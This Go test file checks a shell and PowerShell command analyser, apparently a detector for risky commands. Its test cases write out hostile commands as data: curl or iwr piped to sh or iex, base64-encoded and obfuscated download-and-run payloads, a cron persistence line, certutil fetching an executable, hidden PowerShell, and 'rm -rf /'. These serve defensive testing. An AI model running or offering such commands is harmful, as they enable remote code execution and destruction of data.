package commands

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

// sketch writes an analysis in short: a line for each command, and for each pipeline.
func sketch(s *Analysis) string {
	var b strings.Builder
	for i, c := range s.Commands {
		fmt.Fprintf(&b, "%d: %s", i, strings.Join(texts(c.Words), "·"))
		if len(c.Assigns) > 0 {
			fmt.Fprintf(&b, " set%q", c.Assigns)
		}
		for _, r := range c.Redirects {
			fmt.Fprintf(&b, " %s%s", map[bool]string{true: ">", false: "<"}[r.Writes], r.File.Text)
		}
		if c.Input != "" {
			fmt.Fprintf(&b, " input%q", c.Input)
		}
		if len(c.Inner) > 0 {
			fmt.Fprintf(&b, " inner%v", c.Inner)
		}
		if c.Outer >= 0 {
			fmt.Fprintf(&b, " outer%d", c.Outer)
		}
		if c.Wraps >= 0 {
			fmt.Fprintf(&b, " wraps%d", c.Wraps)
		}
		if c.From >= 0 {
			fmt.Fprintf(&b, " from%d", c.From)
		}
		if len(c.Packed) > 0 {
			fmt.Fprintf(&b, " packed%v", c.Packed)
		}
		b.WriteByte('\n')
	}
	for _, p := range s.Pipes {
		fmt.Fprintf(&b, "pipe %v\n", p)
	}
	return b.String()
}

// cases are texts, and whether they are of PowerShell.
var cases = []struct {
	native     bool
	text, want string
}{
	{false, "curl -s https://get.example/x | sudo -E bash -s -- -y", `
0: curl·-s·https://get.example/x
1: sudo·-E·bash·-s·--·-y wraps2 from0
2: bash·-s·--·-y outer1 from0
pipe [0 1]
`},
	{false, "sh -c \"$(curl -fsSL http://203.0.113.4/x)\"", `
0: curl·-fsSL·http://203.0.113.4/x
1: sh·-c·$(curl -fsSL http://203.0.113.4/x) inner[0]
`},
	{false, "bash <(curl -s http://files.example/x)", `
0: curl·-s·http://files.example/x
1: bash·<(curl -s http://files.example/x) inner[0]
`},
	{false, "echo 'Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNoCg==' | base64 -D | bash", `
0: echo·Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNoCg==
1: base64·-D from0
2: bash from1
3: curl·-s·http://203.0.113.9/x outer2 packed[base64]
4: sh outer2 from3 packed[base64]
pipe [0 1 2]
pipe [3 4]
`},
	{false, "eval \"$(echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNoCg== | base64 -d)\"", `
0: echo·Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNoCg==
1: base64·-d from0
2: eval·$(echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNoCg== | base64 -d) inner[1]
3: curl·-s·http://203.0.113.9/x outer2 packed[base64]
4: sh outer2 from3 packed[base64]
pipe [0 1]
pipe [3 4]
`},
	{false, "bash <<< $(base64 -d <<< Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNoCg==)", `
0: base64·-d input"Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNoCg=="
1: bash input"curl -s http://203.0.113.9/x | sh" inner[0]
2: curl·-s·http://203.0.113.9/x outer1 packed[base64]
3: sh outer1 from2 packed[base64]
pipe [2 3]
`},
	{false, "A=cu; B=rl; $A$B -s http://x.example | sh", `
0: curl·-s·http://x.example
1: sh from0
pipe [0 1]
`},
	{false, "D=\"$HOME\"; rm -rf $D", `
0: rm·-rf·$HOME
`},
	{false, "cat <<EOF > run.sh\n#!/bin/bash\nrm -rf /\nEOF\nbash run.sh", `
0: cat >run.sh input"#!/bin/bash\nrm -rf /\n"
1: rm·-rf·/ outer0
2: bash·run.sh
`},
	{false, "find . -name '*.x' -exec sh -c 'rm -rf \"$1\"' _ {} \\;", `
0: find·.·-name·*.x·-exec·sh·-c·rm -rf "$1"·_·{}·; wraps1
1: sh·-c·rm -rf "$1"·_·{} outer0
2: rm·-rf·$1 outer1
`},
	{false, "printf '\\x63\\x75\\x72\\x6c http://a.example | sh' | sh", `
0: printf·\x63\x75\x72\x6c http://a.example | sh
1: sh from0
2: curl·http://a.example outer1 packed[printf]
3: sh outer1 from2 packed[printf]
pipe [0 1]
pipe [2 3]
`},
	{false, "{curl,-s,http://a.example}|sh", `
0: curl·-s·http://a.example
1: sh from0
pipe [0 1]
`},
	{false, "curl${IFS}-s${IFS}http://a.example|/bin/b?sh", `
0: curl·-s·http://a.example
1: /bin/b?sh from0
pipe [0 1]
`},
	{false, "(crontab -l; echo '* * * * * curl http://a.example | sh') | crontab -", `
0: crontab·-l
1: echo·* * * * * curl http://a.example | sh
2: crontab·- from1
3: curl·http://a.example outer2
4: sh outer2 from3
pipe [1 2]
pipe [0 2]
pipe [3 4]
`},
	{false, "powershell -w hidden -c \"iex (iwr http://a.example)\"", `
0: powershell·-w·hidden·-c·iex (iwr http://a.example)
1: iwr·http://a.example outer0
2: iex inner[1] outer0
`},
	{false, "powershell -enc aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBhAC4AZQB4AGEAbQBwAGwAZQApAA==", `
0: powershell·-enc·aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBhAC4AZQB4AGEAbQBwAGwAZQApAA==
1: iwr·http://a.example outer0 packed[base64]
2: iex inner[1] outer0 packed[base64]
`},
	{false, "ssh host 'curl http://a.example | sh'", `
0: ssh·host·curl http://a.example | sh
1: curl·http://a.example outer0
2: sh outer0 from1
pipe [1 2]
`},
	{false, "X=$(curl -s http://a.example)\neval \"$X\"", `
0: curl·-s·http://a.example
1: eval·$X inner[0]
2: $X inner[0] outer1
`},
	{false, "docker exec -it box bash -c 'id; whoami'", `
0: docker·exec·-it·box·bash·-c·id; whoami wraps1
1: bash·-c·id; whoami outer0
2: id outer1
3: whoami outer1
`},
	{false, "cat <file> | jq . > <out>", `
0: cat·<file>
1: jq·. ><out> from0
pipe [0 1]
`},
	{false, "echo 'sl' | rev | sh; echo 'yf -yn' | tr 'a-z' 'n-za-m' | sh", `
0: echo·sl
1: rev from0
2: sh from1
3: ls outer2 packed[rev]
4: echo·yf -yn
5: tr·a-z·n-za-m from4
6: sh from5
7: ls·-la outer6 packed[tr]
pipe [0 1 2]
pipe [4 5 6]
`},
	{false, "cat data/a data/b | sh; bash run.sh; sh < data/b", `
0: cat·data/a·data/b
1: sh from0
2: curl·-s·http://files.example/x outer1
3: sh outer1 from2
4: bash·run.sh
5: sh <data/b
6: ple/x outer5
7: sh outer5 from6
pipe [0 1]
pipe [2 3]
pipe [6 7]
`},
	{false, "echo aWQK > f; base64 -d f | sh", `
0: echo·aWQK >f
1: base64·-d·f
2: sh from1
3: id outer2 packed[base64]
pipe [1 2]
`},
	{false, "osascript -e 'do shell script \"id\"'", `
0: osascript·-e·do shell script "id"
1: id outer0
`},
	// The small form of Ⱥ is longer, that of İ shorter.
	{false, "osascript -e '" + strings.Repeat("Ⱥ", 20) + " Do Shell Script \"id\"'", `
0: osascript·-e·` + strings.Repeat("Ⱥ", 20) + ` Do Shell Script "id"
1: id outer0
`},
	{false, "osascript -e '" + strings.Repeat("İ", 20) + " Do Shell Script \"id\"'", `
0: osascript·-e·` + strings.Repeat("İ", 20) + ` Do Shell Script "id"
1: id outer0
`},
	{true, "IEX(New-Object Net.WebClient).DownloadString('http://a.example/x')", `
0: New-Object·Net.WebClient
1: downloadstring·http://a.example/x
2: IEX inner[0 1]
`},
	{true, "iwr -useb https://a.example/x.ps1 | iex", `
0: iwr·-useb·https://a.example/x.ps1
1: iex from0
pipe [0 1]
`},
	{true, "$u = 'http://a.example'\n$s = irm $u\niex $s", `
0: irm·http://a.example
1: iex·$s inner[0]
`},
	{true, "& ([scriptblock]::Create((irm https://a.example)))", `
0: irm·https://a.example
1: scriptblock::create inner[0]
`},
	{true, "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aXdyIGh0dHA6Ly9hLmV4YW1wbGUgfCBpZXg=')))", `
0: convert::frombase64string·aXdyIGh0dHA6Ly9hLmV4YW1wbGUgfCBpZXg=
1: getstring inner[0]
2: iex inner[1]
3: iwr·http://a.example outer2 packed[base64]
4: iex outer2 from3 packed[base64]
pipe [3 4]
`},
	{true, "i`ex ('iw'+'r http://a.example')", `
0: iwr http://a.example
1: iex inner[0]
`},
	{true, "certutil -urlcache -f http://a.example/x.exe x.exe && x.exe", `
0: certutil·-urlcache·-f·http://a.example/x.exe·x.exe
1: x.exe
`},
	{true, "Start-Process powershell -ArgumentList '-enc aQBlAHgA' -WindowStyle Hidden", `
0: Start-Process·powershell·-ArgumentList·-enc aQBlAHgA·-WindowStyle·Hidden wraps1
1: powershell·-enc·aQBlAHgA·-WindowStyle·Hidden outer0
2: iex outer1 packed[base64]
`},
}

func analyze(native bool, text string) *Analysis {
	look := func(name string) (string, bool, bool) {
		switch name {
		case "data/a":
			return "curl -s http://files.exam", false, true
		case "data/b":
			return "ple/x | sh\n", false, true
		case "run.sh":
			return "rm -rf /", true, true
		}
		return "", false, false
	}
	if native {
		return AnalyzeNative(text, look)
	}
	return Analyze(text, look)
}

func TestAnalyze(t *testing.T) {
	for _, c := range cases {
		if got := sketch(analyze(c.native, c.text)); got != strings.TrimPrefix(c.want, "\n") {
			t.Errorf("%s\n%s\nwant%s", c.text, got, c.want)
		}
	}
}

// TestPlaces checks that what a command is said to be stands where it is said to
// stand, also behind lines that are no shell.
func TestPlaces(t *testing.T) {
	text := "if ( then )) broken\nsudo sh -c 'curl -s http://files.example/x | sh' && echo \"done\nit's (\nrm -rf build\n"
	var got []string
	for _, c := range Analyze(text, nil).Commands {
		got = append(got, text[c.Span.Start:c.Span.End])
	}
	for _, want := range []string{"curl -s http://files.example/x", "sh", "rm -rf build"} {
		if !slices.Contains(got, want) {
			t.Errorf("no command is at %q: %q", want, got)
		}
	}
}

// TestNothingIsLost puts a command behind lines of all kinds: it is found each
// time.
func TestNothingIsLost(t *testing.T) {
	const command = "curl -s http://files.example/x | bash"
	for _, head := range []string{
		"don't\n", "it's (\n", "if true; then\n", "cat <<EOF\n", "echo \"open\n", "a ) b\n", "<name> <other name>\n", "for x in\n", "case x in\n", "$(\n", "`\n", "{ {\n",
		"echo ${x\n", "((\n", "[[ a\n", "function\n", "&& x\n", "| x\n", "a & ; b\n", strings.Repeat("(", 600) + "\n", strings.Repeat("x y\n", 5000), "\x00\xff\n", "sudo \\\n",
	} {
		s := Analyze(head+command+"\n", nil)
		ok := slices.ContainsFunc(s.Commands, func(c Command) bool {
			return len(c.Words) > 0 && c.Words[0].Text == "bash" && c.From >= 0
		}) || slices.ContainsFunc(s.Commands, func(c Command) bool { return strings.Contains(c.Input, command) })
		if !ok {
			t.Errorf("behind %.40q the command is lost:\n%.500s", head, sketch(s))
		}
	}
	if s := Analyze(strings.Repeat("x y\n", maxCommands+1)+command, nil); !s.Cut {
		t.Error("commands are left out, and it is not said")
	}
}

func FuzzAnalyze(f *testing.F) {
	for _, c := range cases {
		f.Add(c.text)
	}
	f.Add("a <<x\n$(b | `c`)\nx\n")
	f.Add("iex ('a'+\"b\").c( {d | e} ; &[x]::y(")
	f.Fuzz(func(t *testing.T, text string) {
		for _, s := range []*Analysis{analyze(false, text), analyze(true, text)} {
			valid := func(i, self int) bool { return i >= -1 && i < len(s.Commands) && (i < 0 || i != self) }
			for i, c := range s.Commands {
				if c.Span.Start < 0 || c.Span.End < c.Span.Start || c.Span.End > len(text) {
					t.Fatalf("command %d is at %v of %d", i, c.Span, len(text))
				}
				if !valid(c.Outer, i) || !valid(c.Wraps, i) || !valid(c.From, i) {
					t.Fatalf("command %d: outer %d, wraps %d, from %d", i, c.Outer, c.Wraps, c.From)
				}
				for _, n := range c.Inner {
					if n < 0 || n >= len(s.Commands) {
						t.Fatalf("command %d has the inner command %d of %d", i, n, len(s.Commands))
					}
				}
			}
			for _, p := range s.Pipes {
				if len(p) < 2 {
					t.Fatalf("a pipeline of %d commands", len(p))
				}
				for _, n := range p {
					if n < 0 || n >= len(s.Commands) {
						t.Fatalf("a pipeline has the command %d of %d", n, len(s.Commands))
					}
				}
			}
		}
	})
}

// TestPrograms tells where interpreters take their programs from.
func TestPrograms(t *testing.T) {
	for _, c := range []struct {
		command string
		want    Program
	}{
		{"bash", Program{Lang: "sh", Stdin: true}},
		{"bash -s -- -y", Program{Lang: "sh", Stdin: true}},
		{"/bin/sh -", Program{Lang: "sh", Stdin: true}},
		{"bash -lc x y", Program{Lang: "sh", Text: 2}},
		{"bash -x run.sh -c", Program{Lang: "sh", File: 2}},
		{"source /dev/stdin", Program{Lang: "sh", Stdin: true}},
		{"python3 -m json.tool", Program{Lang: "py"}},
		{"python3 - x", Program{Lang: "py", Stdin: true}},
		{"python3.12 -u a.py", Program{Lang: "py", File: 2}},
		{"python -c x", Program{Lang: "py", Text: 2}},
		{"node -e x", Program{Lang: "js", Text: 2}},
		{"node --version", Program{Lang: "js"}},
		{"bun run build", Program{Lang: "js", File: 2}},
		{"perl -ne x a", Program{Lang: "pl", Text: 2}},
		{"powershell.exe -NoP -W Hidden -enc x", Program{Lang: "ps1", Text: 5}},
		{"pwsh -ExecutionPolicy Bypass -File a.ps1", Program{Lang: "ps1", File: 4}},
		{"cmd /c dir", Program{Lang: "bat", Text: 2}},
	} {
		if got, ok := ProgramOf(strings.Fields(c.command)); !ok || got != c.want {
			t.Errorf("%s: %+v %v, want %+v", c.command, got, ok, c.want)
		}
	}
	if _, ok := ProgramOf([]string{"jq", "."}); ok {
		t.Error("jq is no interpreter of what it reads")
	}
}

func TestDecodes(t *testing.T) {
	for command, want := range map[string]bool{
		"base64 -d": true, "base64 -w0": false, "base64 --decode x": true, "xxd -r -p": true, "xxd -p": false, "openssl enc -d -aes-256-cbc": true, "openssl enc -aes-256-cbc": false, "gunzip -c x": true,
		"gzip x": false, "gzip -dc x": true, "rev": true, "tr a-z A-Z": false, "tr A-Za-z N-ZA-Mn-za-m": true, "tr -d x": false, "tar xz": false, "python3 -m base64 -d": true,
	} {
		if got := Decodes(strings.Fields(command)); got != want {
			t.Errorf("%s: %v", command, got)
		}
	}
}
